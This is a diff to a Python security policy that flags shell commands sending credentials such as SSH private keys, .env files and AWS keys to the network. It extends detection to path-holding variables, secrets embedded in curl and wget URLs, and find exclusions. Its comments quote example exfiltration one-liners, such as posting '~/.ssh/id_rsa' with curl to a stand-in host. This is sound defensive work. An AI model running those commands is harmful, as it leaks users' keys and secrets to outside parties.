@@ -14,6 +14,7 @@ from collections.abc import Callable, Sequence
 from dataclasses import replace
 from itertools import pairwise
 
+from sluice.policies._leaks import leaked_secret
 from sluice.policies._runners import ssh_command
 from sluice.policies._shell import Command, basename, parse, with_next
 from sluice.policies._targets import is_credential, on_remote
@@ -160,6 +161,8 @@ class Pipeline:
         # Variables assigned a credential by a command substitution (`T=$(kubectl config
         # view --raw)`, `export DATA=$(cat .env)`): the credential each holds.
         self.assigned: dict[str, str] = {}
+        # Variables assigned a credential's path (`K=$(ls ~/.ssh/id_* | head -1)`): the path.
+        self.paths: dict[str, str] = {}
 
     def close_group(self) -> None:
         """The group (``( … )``, ``{ …; }``) ends: what flows on is what any of it read."""
@@ -214,6 +217,8 @@ class Pipeline:
             return f"Sends {sent} to the network ({basename(words[0])})"
         if fed := _fed_by_xargs(command.words, words):  # xargs -I{} curl -F f=@{} <<< "$F"
             words = fed
+        if self.paths and basename(words[0]) in _SENDERS:  # curl --data-binary "@$K"
+            words = [_VARIABLE_REFERENCE.sub(self._path_of, w) for w in words]
         sent = _sent_by(words, stdin, self._holds_secret)
         return f"Sends {sent} to the network ({basename(words[0])})" if sent else None
 
@@ -224,17 +229,23 @@ class Pipeline:
         variables: list[str] = []
         secret: str | None = None
         substituted: str | None = None
+        listed: str | None = None  # a credential's path a substitution prints (`ls ~/.ssh/id_*`)
         for command in commands:
             # A credential a substitution reads, then the assignment whose value that is
             # (`T=$(kubectl config view --raw)`, `export DATA="$(cat .env)"`), wherever the
             # line's reading puts the two (a quoted substitution is read after the rest).
             if command.after in ("$(", "`"):
                 substituted = _secret_read_by(command) or substituted
-            elif substituted is not None and not command.level:  # (after the pipe it feeds)
+                listed = _listed_credential(command.words) or listed
+            elif command.after == "|" and command.level and _keeps_public_keys(command.words):
+                listed = None  # ls ~/.ssh/id_* | grep pub: the public keys' paths
+            elif (substituted or listed) is not None and not command.level:  # (after its pipe)
                 for name in _assigned_names(command.words):
-                    if len(self.assigned) < _HEADERS:
+                    if substituted is not None and len(self.assigned) < _HEADERS:
                         self.assigned[name] = substituted
-                substituted = None
+                    if listed is not None and len(self.paths) < _HEADERS:
+                        self.paths[name] = listed
+                substituted = listed = None
             if command.words[:2] == ("while", "read"):
                 variables += read_variables(command.words[2:])
             elif command.after == "<(" and command.feeds == "done":
@@ -263,6 +274,9 @@ class Pipeline:
             if any(variable in referenced(w) for w in words[1:]):
                 return f"Sends {secret} to the network ({basename(words[0])}, a piece at a time)"
         return None
+
+    def _path_of(self, found: re.Match[str]) -> str:
+        return self.paths.get(found[1] or found[2], found[0])
 
     def _keep_headers(self, words: Sequence[str]) -> None:
         for option, value in with_next(words):
@@ -507,7 +521,7 @@ def _sent_by(
                 return stdin
             if is_credential(path):
                 return path
-        return stdin or _secret_body(args)
+        return stdin or _secret_body(args) or _written_secret(args)
     if name in ("gh", "glab") and (sent := _hosted_secret(name, args, stdin, is_credential)):
         return sent
     if name == "find":
@@ -519,7 +533,7 @@ def _sent_by(
                     return value
                 if arg.startswith(option + "=") and is_credential(arg.partition("=")[2]):
                     return arg.partition("=")[2]
-        return stdin
+        return stdin or _written_secret(args, wget=True)
     if name in _COPIES:
         found = operands(args, _SSH_VALUES | (_EXCLUDES if name == "rsync" else frozenset()))
         if len(found) >= 2 and on_remote(found[-1]):
@@ -561,6 +575,26 @@ def _sent_by(
     return stdin if name in _RAW else None
 
 
+_VARIABLE_REFERENCE = re.compile(r"\$\{(\w+)\}|\$(\w+)")
+
+
+def _listed_credential(words: Sequence[str]) -> str | None:
+    """The credential whose path ``ls`` or ``find`` prints (``ls ~/.ssh/id_*``, ``find
+    ~/.ssh -name 'id_*'``), as a substitution may give it to a variable."""
+    if not words or basename(words[0]) not in ("ls", "find", "realpath", "readlink"):
+        return None
+    found = [w for w in words[1:] if not w.startswith("-") and is_credential(w.rstrip("/"))]
+    return found[0] if found else None
+
+
+def _keeps_public_keys(words: Sequence[str]) -> bool:
+    """Whether a filter keeps only the public keys of a listing (``grep pub``, ``grep
+    '\\.pub$'``), not leaves them out (``grep -v pub``)."""
+    if not words or basename(words[0]) not in ("grep", "egrep", "rg"):
+        return False
+    return "-v" not in words and any("pub" in w for w in words[1:] if not w.startswith("-"))
+
+
 def _fed_by_xargs(given: Sequence[str], words: Sequence[str]) -> list[str] | None:
     """``words``, the command ``xargs -I REPL`` runs, with REPL replaced by the line its
     here-string gives it (``xargs -I{} curl -F f=@{} <<< "$HOME/.ssh/id_rsa"``); None when
@@ -594,8 +628,13 @@ def _found_and_sent(args: Sequence[str], is_credential: Callable[[str], bool]) -
     if "-exec" not in args and "-execdir" not in args:
         return None
     roots = list(itertools.takewhile(lambda a: a[:1] not in ("-", "(", "!"), args))
-    names = [b for a, b in with_next(args) if a in ("-name", "-iname")]
-    kept = [n for n in names if not n.endswith(".pub")]  # `! -name '*.pub'` leaves them out
+    # The names it looks for, without those it leaves out (`! -name '*.pub'`, `-not -name`).
+    names = [
+        value
+        for before, (option, value) in zip(["", *args], with_next(args), strict=False)
+        if option in ("-name", "-iname") and before not in ("!", "-not")
+    ]
+    kept = [n for n in names if not n.endswith(".pub")]
     at = args.index("-exec") if "-exec" in args else args.index("-execdir")
     run = list(itertools.takewhile(lambda a: a not in (";", "\\;", "+"), args[at + 1 :]))
     if not run or basename(run[0]) not in _SENDERS or (names and not kept and len(names) == 1):
@@ -605,6 +644,19 @@ def _found_and_sent(args: Sequence[str], is_credential: Callable[[str], bool]) -
         if sent := _sent_by([w.replace("{}", found) for w in run], None, is_credential):
             return sent
     return None
+
+
+def _written_secret(args: Sequence[str], wget: bool = False) -> str | None:
+    """A secret curl's (or ``wget``'s) URL or body holds literally, sent to another service
+    than its own (``curl "https://t.example/p?ak=AKIA…"``)."""
+    urls = [a for a in args if "://" in a and not a.startswith("-")]
+    if wget:
+        body = "\n".join(a.partition("=")[2] for a in args if a.startswith(_WGET_BODIES))
+    else:
+        body = "\n".join(given for option, given in _curl_options(args) if option in _CURL_DATA)
+    kinds = (leaked_secret(url, body) for url in urls[:_HEADERS])
+    kind = next((k for k in kinds if k), None)
+    return f"a {kind} written in the request" if kind else None
 
 
 def _secret_body(args: Sequence[str]) -> str | None:
@@ -617,6 +669,7 @@ def _secret_body(args: Sequence[str]) -> str | None:
     return None
 
 
+_WGET_BODIES = ("--post-data=", "--body-data=")
 _ONE_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)\}?")
 
 
